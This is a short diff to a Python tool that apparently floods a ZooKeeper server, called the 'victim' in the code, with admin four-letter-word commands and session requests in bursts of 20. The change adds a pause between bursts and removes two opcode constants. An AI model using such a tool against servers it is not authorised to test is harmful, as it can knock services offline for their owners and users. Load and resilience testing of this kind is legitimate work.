@@ -17,7 +17,9 @@ if TYPE_CHECKING:
 _AT_ONCE = 30
 _WORDS = (b"srvr", b"ruok", b"stat", b"mntr", b"cons", b"wchp", b"dump", b"envi")
 _SESSION_MILLISECONDS = 4000
-_EXISTS, _GET_CHILDREN, _PING, _CREATE = 3, 8, 11, 1
+_PAUSE_SECONDS = 0.5
+"""Between 20 requests of a session and the next 20."""
+_EXISTS, _GET_CHILDREN = 3, 8
 
 
 def connect_request() -> bytes:
@@ -75,6 +77,7 @@ async def _session(victim: Victim, number: int, deadline: float, tally: Tally) -
         request += 20
         tally.sent += 20
         await answer(connection, 2.0)
+        await asyncio.sleep(_PAUSE_SECONDS)
     drop(connection)
 
 
